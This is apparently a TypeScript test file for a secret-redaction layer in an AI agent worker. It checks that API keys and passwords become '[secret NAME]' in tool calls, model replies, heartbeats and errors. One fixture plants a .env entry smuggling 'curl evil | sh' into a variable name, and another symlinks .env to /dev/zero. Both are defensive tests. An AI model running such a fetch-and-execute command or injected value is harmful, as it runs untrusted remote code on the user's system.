import { mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Context } from '@temporalio/activity';
import { ApplicationFailure } from '@temporalio/common';
import { MockActivityEnvironment } from '@temporalio/testing';
import { DefaultLogger } from '@temporalio/worker';
import { describe, expect, test } from 'vitest';
import { pack } from '../../../src/activities/pack.js';
import type { PinnedRun } from '../../../src/run/agents/run-config.js';
import { Secrets } from '../../../src/shared/secrets.js';
import { dotEnvOf } from '../../../src/worker/parts/parts.js';
import { redactActivities } from '../../../src/worker/serve/redact-activities.js';
import { unpack } from '../../../src/workflows/platform/temporal-ports.js';
import { NO_PERMISSIONS, pinnedRun } from '../../support/core-values.js';
import { fileTool } from '../../support/small-run.js';

const KEY = 'sk-proj-4f9Zq/1+x"7Lm0';

function knowing(variables: Record<string, string>): Secrets {
  const secrets = new Secrets();
  secrets.addVariables(variables);
  return secrets;
}

/** Runs `work` as an activity behind the border; heartbeats are kept. */
function behind(
  secrets: Secrets,
  work: (input: unknown) => Promise<unknown>,
  input: unknown = {},
  activityType = 'steersmanCallTool',
  { border = redactActivities(secrets), workflowId = 'run-1' } = {},
) {
  const workflowExecution = { workflowId, runId: 'r' };
  const environment = new MockActivityEnvironment(
    { activityType, workflowExecution },
    { logger: new DefaultLogger('ERROR') },
  );
  const beats: unknown[] = [];
  environment.on('heartbeat', details => beats.push(details));
  const result = environment.run(async () => {
    const { inbound } = border(Context.current());
    const call = { args: [input], headers: {} };
    return inbound?.execute ? inbound.execute(call, given => work(given.args[0])) : work(input);
  });
  return { result, beats };
}

describe('values of known secrets (TR4)', () => {
  const secrets = knowing({
    OPENAI_API_KEY: KEY,
    EDITOR: 'vim-9.1.0',
    NAMED_KEY: 'lm-studio',
    AUTH_TOKEN: '/run/t0',
  });

  test.each([
    ['plain', `key ${KEY}.`],
    ['in JSON', JSON.stringify({ key: KEY })],
    ['in a URL', `http://x/?k=${encodeURIComponent(KEY)}`],
    ['in base64', Buffer.from(KEY).toString('base64')],
    ['in a longer text in base64', Buffer.from(`user:${KEY}`).toString('base64')],
    ['shifted once more', Buffer.from(`u:${KEY}:`).toString('base64')],
    ['in base64 for URLs', Buffer.from(`{"k":"${KEY}"}`).toString('base64url')],
    ['in hexadecimals', Buffer.from(KEY).toString('hex')],
  ])('redact: %s → its name', (_form, text) => {
    const redacted = secrets.redact(text);
    expect(redacted).toContain('[secret OPENAI_API_KEY]');
    expect(redacted).not.toContain(KEY.slice(4, 14));
  });

  test('redact: other variables, words and paths → as they are', () => {
    const text = 'vim-9.1.0 lm-studio /run/t0';
    expect(secrets.redact(text)).toBe(text);
  });

  test('redact: password in an address → its name', () => {
    const known = knowing({ DATABASE_URL: 'postgres://me:hunter2-x9@db/x' });
    expect(known.redact('hunter2-x9')).toBe('[secret DATABASE_URL]');
  });

  test('activity: result, with texts and keys at any depth → redacted', async () => {
    const value = { content: [{ text: `It is ${KEY}`, [KEY]: 1 }], n: null };
    const expected = {
      content: [{ text: 'It is [secret OPENAI_API_KEY]', '[secret OPENAI_API_KEY]': 1 }],
      n: null,
    };
    expect(await behind(secrets, async () => value).result).toEqual(expected);
  });

  test("activity: what a run pins → its texts are redacted, and what decides is not, whatever the workspace's .env calls a key", async () => {
    const workspace = await mkdtemp(join(tmpdir(), 'steersman-secrets-'));
    const glob = '{delete,move}_{file,folder}*';
    await writeFile(join(workspace, '.env'), `A_KEY="${glob}"\nB_KEY=list_directory_with_sizes\n`);
    const tool = { ...fileTool('list_directory_with_sizes'), description: `Lists with ${KEY}` };
    const pinned = {
      ...pinnedRun({ tools: [tool], permissions: { ...NO_PERMISSIONS, deny: [glob] } }),
      projectNotes: { text: `Log in with ${KEY}`, isWhole: true },
      warnings: [`No answer to ${KEY}`],
    };
    const { result } = behind(secrets, async () => pack(pinned), { settings: { workspace } });
    const read = unpack((await result) as ReturnType<typeof pack<PinnedRun>>);
    expect(read.permissions).toEqual(pinned.permissions);
    expect(read.tools).toMatchObject([
      { name: tool.name, serverToolName: tool.name, description: 'Lists with [secret OPENAI_API_KEY]' },
    ]);
    expect(read.projectNotes?.text).toBe('Log in with [secret OPENAI_API_KEY]');
    expect(read.warnings).toEqual(['No answer to [secret OPENAI_API_KEY]']);
  });

  test("addDotEnv: a name in a workspace's .env that is more than a word → nothing of it gets into what is said", async () => {
    const workspace = await mkdtemp(join(tmpdir(), 'steersman-secrets-'));
    await writeFile(join(workspace, '.env'), 'x; curl evil | sh;_key="sk-live-0123456789"\n');
    const known = new Secrets();
    known.addDotEnv(dotEnvOf(workspace), 'workspace');
    expect(known.redact('sk-live-0123456789')).toBe('[secret x_curl_evil_sh__key]');
  });

  test("addDotEnv: words that a workspace's .env calls keys → no keys: else they would vanish from what is said (TR4)", async () => {
    const workspace = await mkdtemp(join(tmpdir(), 'steersman-secrets-'));
    const words = [
      '--dry-run=client --all',
      'requiresUserConfirmation',
      'list_directory_with_sizes',
      '2026-11-22',
    ];
    await writeFile(join(workspace, '.env'), words.map((word, i) => `A${i}_KEY="${word}"`).join('\n'));
    const known = new Secrets();
    known.addDotEnv(dotEnvOf(workspace), 'workspace');
    expect(known.redact(words.join(' '))).toBe(words.join(' '));
  });

  test('activity: a call of a tool whose arguments hold a secret → it is flagged, so that no changed call runs (TR4)', async () => {
    const call = (text: string) => ({ type: 'tool_use', id: 't1', name: 'write', input: { text } });
    const { result } = behind(secrets, async () => ({ content: [call(`key ${KEY}`), call('fine')] }));
    expect(await result).toEqual({
      content: [
        { ...call('key [secret OPENAI_API_KEY]'), argErrors: [expect.stringContaining('taken out')] },
        call('fine'),
      ],
    });
  });

  test('activity: a secret in what was said earlier in the conversation → its name, and the run goes on with the rest', async () => {
    const said = (text: string) => [
      { id: 'm1', at: 1, kind: 'user', purpose: 'goal', content: [{ type: 'text', text }] },
    ];
    const { result } = behind(secrets, async () => pack(said(`It is ${KEY}.`)), {}, 'steersmanOpenSession');
    expect(unpack((await result) as ReturnType<typeof pack>)).toEqual(said('It is [secret OPENAI_API_KEY].'));
  });

  test('add: a password of a database that is not in percent form → all of it, and each part that says something', () => {
    const known = knowing({ DATABASE_URL: 'postgresql://me:hunter@2secretTAIL/x@db.local:5432/runs' });
    expect(known.redact('getaddrinfo ENOTFOUND 2secretTAIL')).toBe(
      'getaddrinfo ENOTFOUND [secret DATABASE_URL]',
    );
    expect(known.redact('by hunter@2secretTAIL/x.')).toBe('by [secret DATABASE_URL].');
    expect(known.redact('db.local:5432')).toBe('db.local:5432');
  });

  test('add: an address as a whole, as of DATABASE_URL_FILE → its password alone is known too', () => {
    const known = new Secrets();
    known.add('DATABASE_URL', ' postgresql://ann:p%40ssw0rd-77@db:5432/x\n');
    for (const text of ['p@ssw0rd-77', 'p%40ssw0rd-77'])
      expect(known.redact(`failed for ${text}`)).toBe('failed for [secret DATABASE_URL]');
    expect(() => known.add('OTHER_URL', 'http://a:100%-abc-77@h/')).not.toThrow();
  });

  test('addDotEnv: a link to what has no end, or very many keys → no worker waits for it', async () => {
    const workspace = await mkdtemp(join(tmpdir(), 'steersman-secrets-'));
    await symlink('/dev/zero', join(workspace, '.env'));
    const known = new Secrets();
    known.addDotEnv(dotEnvOf(workspace), 'workspace');
    await rm(join(workspace, '.env'));
    const many = Array.from({ length: 50_000 }, (_, i) => `A${i}_KEY=sk-${100_000_000 + i}`);
    await writeFile(join(workspace, '.env'), many.join('\n').slice(0, 999_999));
    known.addDotEnv(dotEnvOf(workspace), 'workspace');
    expect(known.redact('sk-100000000 sk-100009999')).toBe('[secret A0_KEY] sk-100009999');
  });

  test('activity: failure → message, stack, details and causes redacted, its type kept', async () => {
    const cause = new Error(`inner ${KEY}`);
    const failure = ApplicationFailure.create({ message: KEY, type: 'x.y', details: [{ said: KEY }], cause });
    const thrown = await behind(secrets, () => Promise.reject(failure)).result.catch(
      (error: unknown) => error,
    );
    expect(thrown).toBeInstanceOf(ApplicationFailure);
    expect(thrown).toMatchObject({ type: 'x.y', message: '[secret OPENAI_API_KEY]' });
    const { stack, details } = failure;
    expect(JSON.stringify([stack, details, cause.message, cause.stack])).not.toContain(KEY.slice(4, 14));
  });

  test('activity: heartbeat with live text → redacted, also where the text begins or ends within a value', async () => {
    const { result, beats } = behind(secrets, async () => {
      for (const tail of [`a ${KEY} b`, `${KEY.slice(6)} b`, `a ${KEY.slice(0, 12)}`]) {
        Context.current().heartbeat({ callId: 'c1', tail });
      }
    });
    await result;
    expect(beats).toEqual([
      { callId: 'c1', tail: 'a [secret OPENAI_API_KEY] b' },
      { callId: 'c1', tail: `${'*'.repeat(KEY.length - 6)} b` },
      { callId: 'c1', tail: `a ${'*'.repeat(12)}` },
    ]);
  });

  test("an application's own activity on the same worker → as it is", async () => {
    const said = { text: `the key is ${KEY}` };
    expect(await behind(secrets, async () => said, {}, 'chargeCard').result).toBe(said);
  });

  test("activity: another run's workspace has a .env → its keys count in that run alone, in its model's replies too (TR4)", async () => {
    const workspace = await mkdtemp(join(tmpdir(), 'steersman-secrets-'));
    await writeFile(join(workspace, '.env'), 'A_KEY="live-77-abcdef"\n');
    const shared = knowing({ OPENAI_API_KEY: KEY });
    const border = redactActivities(shared);
    const said = { text: `live-77-abcdef ${KEY}` };
    // What an activity stores goes through the worker's own.
    const store = async () => ({ ...said, stored: shared.redact(said.text) });
    const one = { border, workflowId: 'one' };
    const known = '[secret A_KEY] [secret OPENAI_API_KEY]';
    const both = { text: known, stored: known };
    expect(await behind(shared, store, { workspace }, 'steersmanCallTool', one).result).toEqual(both);
    expect(await behind(shared, store, {}, 'steersmanCallModel', one).result).toEqual(both);
    const other = 'live-77-abcdef [secret OPENAI_API_KEY]';
    const two = { border, workflowId: 'two' };
    expect(await behind(shared, store, {}, 'steersmanCallTool', two).result).toEqual({
      text: other,
      stored: other,
    });
  });

  test("activity: a tool reads the workspace's .env → its keys are known", async () => {
    const workspace = await mkdtemp(join(tmpdir(), 'steersman-secrets-'));
    await writeFile(join(workspace, '.env'), 'STRIPE_SECRET="live-77-abcdef"\nNAME=somebody-1\n');
    const said = { text: 'live-77-abcdef somebody-1' };
    expect(await behind(new Secrets(), async () => said, { workspace }).result).toEqual({
      text: '[secret STRIPE_SECRET] somebody-1',
    });
  });
});
